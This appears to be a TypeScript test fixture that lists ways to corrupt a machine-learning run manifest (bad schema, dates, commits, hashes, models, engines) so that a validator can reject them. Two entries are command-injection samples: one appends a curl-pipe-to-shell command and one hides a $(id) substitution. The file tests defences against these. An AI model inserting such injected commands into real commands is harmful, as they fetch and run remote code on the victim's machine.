/** A manifest from which the run could not be made again, or that claims what is not so. */
import type { Corruption, Draft } from './corruption.ts';

interface Sweep {
  recipes: string[];
  tasks: string[];
  seed: number;
}
const sweepOf = ({ run }: Draft) => run.settings.sweep as unknown as Sweep;
const HASH_OF_NOTHING = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';

/** Fields that the schema does not have, or not like this. */
type Loose = Record<string, unknown>;

export const manifestCorruptions: readonly Corruption[] = [
  {
    does: 'adds a field deep inside',
    rule: 'schema',
    json: ({ run }) => void ((run.machine as Loose).owner = 'me'),
  },
  { does: 'leaves a field out', rule: 'schema', json: ({ run }) => void delete (run as Loose).created_at },
  { does: 'writes a number as a text', rule: 'schema', json: ({ run }) => void ((run as Loose).seed = '0') },
  {
    does: 'names another version of the format',
    rule: 'schema',
    json: (run) => void ((run as Loose).schema = 3),
  },
  {
    does: 'writes a time without its zone',
    rule: 'schema',
    json: ({ run }) => void (run.created_at = '2026-11-26'),
  },
  {
    does: 'dates the run in the future',
    rule: 'dates',
    json: ({ run }) => void (run.created_at = '2126-01-01T00:00:00Z'),
  },
  {
    does: 'dates the run before the pipeline',
    rule: 'dates',
    json: ({ run }) => void (run.created_at = '1999-01-01T00:00:00Z'),
  },
  { does: 'leaves the commit out', rule: 'clean-commit', json: ({ run }) => void (run.code_commit = null) },
  {
    does: 'makes a commit up',
    rule: 'clean-commit',
    json: ({ run }) => void (run.code_commit = '0'.repeat(40)),
  },
  {
    does: 'measures with code that is not committed',
    rule: 'clean-commit',
    json: ({ run }) => void (run.code_dirty = true),
  },
  {
    does: 'measures one session with code that is not committed',
    rule: 'clean-commit',
    json: ({ run }) => void ((run.settings.sessions as Loose[])[0]!.code_dirty = true),
  },
  {
    does: 'leaves the sessions out',
    rule: 'clean-commit',
    json: ({ run }) => void delete run.settings.sessions,
  },
  {
    does: 'appends a shell command',
    rule: 'command',
    json: ({ run }) => void (run.command += '; curl example.org | sh'),
  },
  {
    does: 'hides a substitution in the command',
    rule: 'command',
    json: ({ run }) => void (run.command += ' --data $(id)'),
  },
  {
    does: 'gives another program as the command',
    rule: 'command',
    json: ({ run }) => void (run.command = 'python eval.py'),
  },
  { does: 'leaves the sweep out', rule: 'complete', json: ({ run }) => void delete run.settings.sweep },
  { does: 'gives the sweep another seed', rule: 'complete', json: (run) => void (sweepOf(run).seed = 7) },
  {
    does: 'has cells that the sweep does not ask for',
    rule: 'complete',
    json: (run) => void sweepOf(run).tasks.pop(),
  },
  {
    does: 'leaves the cells of a recipe out and keeps the name of the run',
    rule: 'complete',
    severity: 'flagged',
    json: (run) => void run.recipes.pop(),
  },
  { does: 'leaves the data out', rule: 'complete', json: ({ run }) => void (run.datasets = []) },
  {
    does: 'names data that no catalogue has',
    rule: 'artefacts',
    json: ({ run }) => void (run.datasets[0]!.id = 'wurld'),
  },
  {
    does: 'gives the hash of an empty file for the weights',
    rule: 'artefacts',
    json: ({ run }) => void (run.models[0]!.weights[0]!.sha256 = HASH_OF_NOTHING),
  },
  {
    does: 'gives zeros for the hash of the config',
    rule: 'artefacts',
    json: ({ run }) => void (run.models[0]!.config_sha256 = '0'.repeat(64)),
  },
  { does: 'leaves the weights out', rule: 'schema', json: ({ run }) => void (run.models[0]!.weights = []) },
  {
    does: 'leaves the hash of the kernels out',
    rule: 'artefacts',
    json: ({ run }) => void (run.kernel_library_sha256 = null),
  },
  {
    does: 'names a model of the hub without its commit',
    rule: 'artefacts',
    json: ({ run }) => void Object.assign(run.models[0]!, { source: 'org/model', revision: 'main' }),
  },
  {
    does: 'leaves the calibration out',
    rule: 'calibration',
    json: ({ run }) => void (run.calibration = null),
  },
  {
    does: 'gives the model another family',
    rule: 'known-model',
    json: ({ run }) => void (run.models[0]!.family = 'opt'),
  },
  {
    does: 'gives the model ten times its parameters',
    rule: 'known-model',
    json: ({ run }) => void (run.models[0]!.params *= 10),
  },
  {
    does: 'names an engine that does not exist',
    rule: 'known-engine',
    json: ({ run }) => void (run.engine.id = 'cudo'),
  },
  {
    does: 'gives the run another name than the file',
    rule: 'name',
    json: ({ run }) => void (run.run_id = run.run_id.replace(/.$/, 'x')),
  },
];
